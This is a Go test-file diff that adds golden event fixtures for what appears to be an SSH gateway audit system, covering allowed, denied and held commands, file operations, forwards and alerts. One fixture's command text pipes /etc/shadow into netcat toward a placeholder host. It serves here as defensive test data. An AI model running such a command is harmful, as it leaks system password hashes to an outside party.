@@ -7,6 +7,7 @@ import (
 	"encoding/json"
 	"flag"
 	"fmt"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -82,6 +83,56 @@ var asked = &schemas.Command{
 func judged(o schemas.Outcome) *schemas.Entry {
 	return &schemas.Entry{Kind: &schemas.Entry_Verdict{Verdict: &schemas.Verdict{Command: 2, Outcome: o, Revision: "r1", Masks: []string{"pii"},
 		Reasons: []*schemas.Reason{{Policy: "no-unfiltered", Message: "say which rows"}}}}}
+}
+
+// served is a session on a server, and what is done there.
+var served = &schemas.Opened{
+	Principal: opening.Principal, Run: opening.Run, Target: "web1", TargetLabels: opening.TargetLabels, Protocol: "ssh",
+	ClientAddress: "192.0.2.7:50123", ClientName: "SSH-2.0-OpenSSH_9.2p1", Gateway: "g1", UpstreamUser: "deploy", Tls: true,
+}
+
+// overSSH makes the event of the last of facts that follow an opening; a command of it has number 2.
+func overSSH(facts ...*schemas.Entry) func() ([]byte, schemas.Subject, error) {
+	return func() ([]byte, schemas.Subject, error) {
+		all := []journal.Located{located(1, &schemas.Entry{Kind: &schemas.Entry_Opened{Opened: served}})}
+		for i, f := range facts {
+			all = append(all, located(uint64(2+i), f))
+		}
+		return replay.EventOf(first, all...)
+	}
+}
+
+func did(c *schemas.Command) *schemas.Entry {
+	c.TextSize, c.Digest = uint64(len(c.Text)), []byte{0xAB}
+	return &schemas.Entry{Kind: &schemas.Entry_Command{Command: c}}
+}
+
+func shellGoldens() map[string]func() ([]byte, schemas.Subject, error) {
+	facts := &schemas.ExecFacts{
+		Commands: []*schemas.ExecCommand{{Program: "cat", Argv: []string{"cat", "/etc/shadow"}}, {Program: "nc", Argv: []string{"nc", "h", ""}, Unknown: []uint32{2}, Piped: true}},
+		Writes:   []string{"/tmp/out"},
+	}
+	ran := func() *schemas.Entry {
+		return did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_EXEC, Text: "cat /etc/shadow | nc h $p > /tmp/out", Exec: facts})
+	}
+	file := func(op *schemas.FileOperation) *schemas.Entry {
+		return did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_FILE, Text: op.Operation + " " + op.Path, Parent: 1, Operation: op})
+	}
+	seen := &schemas.Entry{Kind: &schemas.Entry_Observed{Observed: &schemas.Observed{Command: 1, Text: "curl h", Source: "marks", Ended: true, ExitStatus: 7, Digest: []byte{0xCD},
+		Exec: &schemas.ExecFacts{Commands: []*schemas.ExecCommand{{Program: "curl", Argv: []string{"curl", "h"}}}}}}}
+	return map[string]func() ([]byte, schemas.Subject, error){
+		"command.allowed.exec":    overSSH(ran(), judged(schemas.Outcome_OUTCOME_ALLOW)),
+		"command.denied.exec":     overSSH(ran(), judged(schemas.Outcome_OUTCOME_DENY)),
+		"command.denied.unparsed": overSSH(did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_EXEC, Text: "planted", Exec: &schemas.ExecFacts{Unparsed: true, ParseError: "syntax error"}}), judged(schemas.Outcome_OUTCOME_DENY)),
+		"command.held.shell":      overSSH(did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_SHELL, Exec: &schemas.ExecFacts{Interactive: true}}), judged(schemas.Outcome_OUTCOME_HOLD)),
+		"command.allowed.file":    overSSH(file(&schemas.FileOperation{Operation: "rename", Path: "/srv/a", To: "/srv/b"}), judged(schemas.Outcome_OUTCOME_ALLOW)),
+		"command.denied.forward":  overSSH(did(&schemas.Command{Kind: schemas.CommandKind_COMMAND_KIND_FORWARD, Text: "local db1:5432", Forward: &schemas.Forward{Direction: "local", Host: "db1", Port: 5432, Origin: "127.0.0.1:4"}}), judged(schemas.Outcome_OUTCOME_DENY)),
+		"command.finished.exec":   overSSH(ran(), &schemas.Entry{Kind: &schemas.Entry_Result{Result: &schemas.Result{Command: 2, Tag: "exit 1", Duration: 12_345_678, Bytes: 9, BytesIn: 3}}}),
+		"command.observed":        overSSH(seen),
+		"command.alerted":         overSSH(seen, judged(schemas.Outcome_OUTCOME_HOLD)),
+		"command.alerted.ends":    overSSH(seen, judged(schemas.Outcome_OUTCOME_DENY)),
+		"file.transferred":        overSSH(&schemas.Entry{Kind: &schemas.Entry_File{File: &schemas.File{Command: 2, Path: "/srv/upload.bin", BytesIn: 7, DigestIn: bytes.Repeat([]byte{0xEF}, 32), Kept: true}}}),
+	}
 }
 
 // goldens are the events of every type: name of the file, and what makes it.
@@ -165,7 +216,9 @@ func goldens() map[string]func() ([]byte, schemas.Subject, error) {
 // programs parse these.
 func TestGoldens(t *testing.T) {
 	valid, covered := validator(t), map[string]bool{"common": true}
-	for name, make := range goldens() {
+	all := goldens()
+	maps.Copy(all, shellGoldens())
+	for name, make := range all {
 		data, subject, err := make()
 		if err != nil {
 			t.Errorf("%s: %v", name, err)
